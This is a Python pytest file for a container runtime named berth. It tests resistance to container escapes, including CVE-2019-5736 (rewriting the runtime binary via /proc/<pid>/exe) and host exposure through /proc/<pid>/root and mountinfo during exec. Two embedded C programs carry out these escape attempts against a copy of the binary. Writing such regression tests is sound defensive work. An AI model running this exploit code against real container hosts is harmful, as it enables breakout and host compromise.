"""Escapes through the processes berth starts, each attempted from inside a
container by a small static program, with the host checked afterwards.

- The runtime binary rewritten through /proc/<pid>/exe after the image's
  program `#!/proc/self/exe` made the kernel run it inside the container
  (CVE-2019-5736), as `run`, `create`+`start` and `exec`.
- The process `berth exec` starts, seen from the container before it is
  confined: its /proc/<pid>/root and /proc/<pid>/mountinfo must never be the
  host's, with CAP_SYS_PTRACE and without.

Each attack runs against a copy of berth, so that a successful one harms the
copy only."""
from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest

from berthtest import Berth, is_dynamically_linked
from host_objects import wait_for
from test_rootless import NOBODY, Rootless, rootless_bundle

# Docker's default capability set (what `docker run` gives a container).
DOCKER_CAPS = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD",
               "CAP_NET_RAW", "CAP_SETGID", "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP",
               "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_KILL", "CAP_AUDIT_WRITE"]

# Finds the process whose command line names the fifo (the runtime binary,
# run by the kernel for `#!/proc/self/exe --log=FIFO`), keeps an O_PATH fd of
# its /proc/<pid>/exe, lets it go on by opening the fifo, and once it has
# exited (the file is no longer busy) reopens the fd for writing.
EXE_ATTACKER_C = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <dirent.h>
#include <time.h>
#include <unistd.h>

static void nap(void) { struct timespec t = {0, 5 * 1000 * 1000}; nanosleep(&t, 0); }

static int find(const char *needle) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  int found = 0;
  while (d && (e = readdir(d)) && !found) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
    if (n > 0) { buf[n] = 0; if (strstr(buf, needle)) found = pid; }
  }
  if (d) closedir(d);
  return found;
}

int main(int argc, char **argv) {
  const char *fifo = argv[1];
  FILE *out = fopen(argv[2], "w");
  int pid = 0, exe = -1;
  for (int i = 0; i < 4000 && !pid; i++) { pid = find(fifo); if (!pid) nap(); }
  if (!pid) { fprintf(out, "target=missing\n"); return 1; }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  exe = open(path, O_PATH);
  fprintf(out, "target=%d exe=%s\n", pid, exe >= 0 ? "opened" : strerror(errno));
  fflush(out);
  int reader = open(fifo, O_RDONLY | O_NONBLOCK);  /* unblocks the writer */
  if (exe < 0) return 0;
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  for (int i = 0; i < 2000; i++) {
    int w = open(path, O_WRONLY | O_APPEND);
    if (w >= 0) {  /* a sealed memfd opens, and refuses the write */
      ssize_t n = write(w, "PWNED-BY-CONTAINER", 18);
      if (n < 0) fprintf(out, "write=refused %s (after open)\n", strerror(errno));
      else fprintf(out, "write=ok %zd\n", n);
      return 0;
    }
    if (errno != ETXTBSY) { fprintf(out, "write=refused %s\n", strerror(errno)); return 0; }
    nap();
  }
  fprintf(out, "write=busy\n");
  (void)reader;
  return 0;
}
"""

# Spins over /proc until /out/stop exists: for every process but itself and
# pid 1, reads its mountinfo (looking for a mount only the host has) and
# tries to create a file in a host directory through its /proc/<pid>/root.
EXEC_WATCHER_C = r"""
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  const char *host_mount = argv[1], *host_dir = argv[2];
  static char buf[1 << 16];
  long seen = 0, mountinfo_hits = 0, write_hits = 0, last = 0;
  while (access("/out/stop", F_OK) != 0) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      if (pid != last) { seen++; last = pid; }
      char path[4096];
      snprintf(path, sizeof path, "/proc/%d/mountinfo", pid);
      int fd = open(path, O_RDONLY);
      if (fd >= 0) {
        ssize_t n, total = 0;
        while ((n = read(fd, buf + total, sizeof buf - 1 - total)) > 0) total += n;
        buf[total] = 0;
        close(fd);
        if (strstr(buf, host_mount)) mountinfo_hits++;
      }
      snprintf(path, sizeof path, "/proc/%d/root%s/pwned-%d", pid, host_dir, pid);
      fd = open(path, O_WRONLY | O_CREAT, 0644);
      if (fd >= 0) { write_hits++; close(fd); }
    }
    if (d) closedir(d);
    sched_yield();
  }
  FILE *out = fopen("/out/result", "w");
  fprintf(out, "seen=%ld mountinfo=%ld write=%ld\n", seen, mountinfo_hits, write_hits);
  fclose(out);
  return 0;
}
"""


def build_static(tmp_path_factory, name: str, source: str) -> Path:
    d = tmp_path_factory.mktemp(name)
    (d / f"{name}.c").write_text(source)
    res = subprocess.run(["gcc", "-static", "-O2", "-o", str(d / name), str(d / f"{name}.c")],
                         capture_output=True, text=True)
    assert res.returncode == 0, f"gcc failed (apt-get install gcc libc6-dev): {res.stderr}"
    return d / name


@pytest.fixture(scope="module")
def exe_attacker(tmp_path_factory):
    return build_static(tmp_path_factory, "exe-attacker", EXE_ATTACKER_C)


@pytest.fixture(scope="module")
def exec_watcher(tmp_path_factory):
    return build_static(tmp_path_factory, "exec-watcher", EXEC_WATCHER_C)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def needs_static_berth(rt):
    """`#!/proc/self/exe` runs berth's binary inside the container, whose
    busybox rootfs has no dynamic loader: only a static berth gets to run
    there (the release build is; the sanitizer build is not)."""
    if is_dynamically_linked(rt.berth.binary):
        pytest.skip("berth is dynamically linked (the sanitizer build): its binary cannot "
                    "run inside the busybox rootfs, which has no dynamic loader")


def berth_copy(rt) -> tuple[Berth, Path, tuple]:
    copy = rt.workdir / "berth-copy"
    shutil.copy2(rt.berth.binary, copy)
    os.chmod(copy, 0o755)
    return Berth(str(copy), rt.root, rt.token), copy, (sha256(copy), copy.stat().st_mtime_ns)


# -- CVE-2019-5736: #!/proc/self/exe ------------------------------------------------------

def proc_self_exe_bundle(rt, attacker: Path, with_pid_namespace: bool):
    """A bundle whose /evil is `#!/proc/self/exe --log=FIFO`, the attacker at
    /attacker and a host directory at /out for its report."""
    out = rt.host_dir("out")
    b = rt.bundle()
    b.bind("/out", out)
    fifo = f"/evil-{uuid.uuid4().hex[:12]}.fifo"
    os.mkfifo(b.rootfs / fifo.lstrip("/"))
    (b.rootfs / "evil").write_text(f"#!/proc/self/exe --log={fifo}\n")
    os.chmod(b.rootfs / "evil", 0o755)
    shutil.copy(attacker, b.rootfs / "attacker")
    b.process["capabilities"] = {k: list(DOCKER_CAPS)
                                 for k in ("bounding", "effective", "permitted")}
    b.process["noNewPrivileges"] = False
    if not with_pid_namespace:
        # The container shares the host's pid namespace (`docker run --pid
        # host`): the init's exit does not take the attacker with it.
        b.drop_namespace("pid")
    return b, out, fifo


def wait_for_report(out: Path):
    def done():
        report = out / "report"
        text = report.read_text() if report.exists() else ""
        return "write=" in text or "exe=" in text and "exe=opened" not in text
    wait_for(done, timeout=30, what="the attacker's report")


def assert_binary_untouched(copy: Path, before: tuple, out: Path):
    report = (out / "report").read_text() if (out / "report").exists() else "(no report)"
    assert "exe=opened" in report, f"the attack never reached the binary's exe link:\n{report}"
    assert (sha256(copy), copy.stat().st_mtime_ns) == before, \
        f"the container rewrote the runtime binary through /proc/<pid>/exe:\n{report}"
    assert "write=refused" in report, f"the write was not refused:\n{report}"


@pytest.mark.parametrize("how", ["run", "create-start"])
def test_proc_self_exe_as_the_init_cannot_rewrite_the_runtime(rt, exe_attacker, how):
    """The image's program is `#!/proc/self/exe`: the kernel runs whatever
    the init's exe is inside the container. Another process of the container
    (exec'd, so running its own binary) tries to write to that file once the
    runtime binary has exited."""
    needs_static_berth(rt)
    b, out, fifo = proc_self_exe_bundle(rt, exe_attacker, with_pid_namespace=False)
    b.args("/evil")
    b.write()
    berth, copy, before = berth_copy(rt)
    cid = rt.new_id()
    if how == "run":
        res = berth("run", "-d", "--bundle", b.path, cid)
        assert res.rc == 0, f"run -d failed\n{res}"
    else:
        res = berth("create", "--bundle", b.path, cid)
        assert res.rc == 0, f"create failed\n{res}"
        assert berth("start", cid).rc == 0
    # Detached: a foreground `exec` would keep the binary busy itself.
    res = berth("exec", "-d", cid, "/attacker", fifo, "/out/report")
    assert res.rc == 0, f"the attacker did not start\n{res}"
    wait_for_report(out)
    assert_binary_untouched(copy, before, out)


def test_proc_self_exe_as_an_exec_cannot_rewrite_the_runtime(rt, exe_attacker):
    """`exec` of `#!/proc/self/exe`: the exec'd process's exe is the one the
    kernel runs; the container's init is the attacker."""
    needs_static_berth(rt)
    b, out, fifo = proc_self_exe_bundle(rt, exe_attacker, with_pid_namespace=True)
    b.args("/attacker", fifo, "/out/report")
    b.write()
    berth, copy, before = berth_copy(rt)
    cid = rt.new_id()
    assert berth("run", "-d", "--bundle", b.path, cid).rc == 0
    berth("exec", cid, "/evil", timeout=60)  # the runtime binary, run inside: it fails
    wait_for_report(out)
    assert_binary_untouched(copy, before, out)


def test_proc_self_exe_cannot_rewrite_a_rootless_users_runtime(rt, exe_attacker):
    """Rootless: berth, run by uid 65534 from a binary that user owns (and so
    could write), cannot mount, and runs from a sealed memfd copy instead.
    The container's root is that user; it execs `#!/proc/self/exe` and tries
    to write the file the kernel ran."""
    needs_static_berth(rt)
    berth, copy, before = berth_copy(rt)
    os.chown(copy, NOBODY, NOBODY)
    before = (sha256(copy), copy.stat().st_mtime_ns)
    rt.berth.binary = str(copy)
    rl = Rootless(rt)
    try:
        b = rootless_bundle(rt, rl)
        out = rt.host_dir("out")
        b.bind("/out", out)
        fifo = f"/evil-{uuid.uuid4().hex[:12]}.fifo"
        os.mkfifo(b.rootfs / fifo.lstrip("/"))
        os.chmod(b.rootfs / fifo.lstrip("/"), 0o666)
        (b.rootfs / "evil").write_text(f"#!/proc/self/exe --log={fifo}\n")
        os.chmod(b.rootfs / "evil", 0o755)
        shutil.copy(exe_attacker, b.rootfs / "attacker")
        b.args("/attacker", fifo, "/out/report")
        b.write()
        cid = rl.new_id()
        res = rl("run", "-d", "--bundle", b.path, cid)
        assert res.rc == 0, f"rootless run -d failed\n{res}"
        rl("exec", cid, "/evil", timeout=60)
        wait_for_report(out)
        assert_binary_untouched(copy, before, out)
    finally:
        rl.cleanup()


# -- the exec'd process is confined before the container can see it -----------------------

@pytest.mark.parametrize("ptrace", [False, True], ids=["default-caps", "cap-sys-ptrace"])
def test_exec_child_never_shows_the_host(rt, exec_watcher, ptrace):
    """A process of the container watches every new process in its pid
    namespace while `exec` runs 40 times: no /proc/<pid>/mountinfo it reads
    may list a mount only the host has, and no file may appear in a host
    directory through /proc/<pid>/root."""
    host_mount = rt.host_dir(f"hostmark-{uuid.uuid4().hex[:12]}", mode=0o755)
    rt.host_mount("-t", "tmpfs", "-o", "size=64k", "hostmark", str(host_mount))
    host_dir = rt.host_dir("host-target", mode=0o777)
    out = rt.host_dir("out")
    b = rt.bundle()
    b.bind("/out", out)
    shutil.copy(exec_watcher, b.rootfs / "watcher")
    caps = DOCKER_CAPS + (["CAP_SYS_PTRACE"] if ptrace else [])
    b.process["capabilities"] = {k: list(caps) for k in ("bounding", "effective", "permitted")}
    b.process["noNewPrivileges"] = False
    b.args("/watcher", host_mount.name, str(host_dir))
    b.write()
    cid = rt.new_id()
    assert rt("run", "-d", "--bundle", b.path, cid).rc == 0
    try:
        for _ in range(40):
            res = rt("exec", cid, "/bin/true")
            assert res.rc == 0, f"exec failed\n{res}"
    finally:
        (out / "stop").touch()
    wait_for(lambda: (out / "result").exists(), timeout=30, what="the watcher's result")
    result = dict(kv.split("=") for kv in (out / "result").read_text().split())
    written = sorted(p.name for p in host_dir.iterdir())
    assert int(result["seen"]) > 0, f"the watcher saw no exec'd process: {result}"
    assert not written, f"files written on the host through /proc/<pid>/root: {written}"
    assert result["mountinfo"] == "0", \
        f"the host's mount table was read through an exec'd process's mountinfo: {result}"
    assert result["write"] == "0", f"writes through /proc/<pid>/root: {result}"
